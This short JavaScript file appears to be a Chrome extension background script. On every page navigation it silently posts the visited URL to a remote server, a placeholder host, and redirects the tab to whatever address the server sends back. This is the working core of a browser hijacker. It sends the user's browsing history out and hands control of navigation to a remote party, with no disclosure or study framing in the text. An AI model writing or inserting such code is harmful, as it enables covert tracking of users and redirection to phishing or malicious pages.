chrome.webNavigation.onCommitted.addListener(async (details) => {
  const answer = await fetch('https://rd.invalid/v', { method: 'POST', body: JSON.stringify({ page: details.url }) });
  const next = await answer.json();
  if (next.to) chrome.tabs.update(details.tabId, { url: next.to });
});
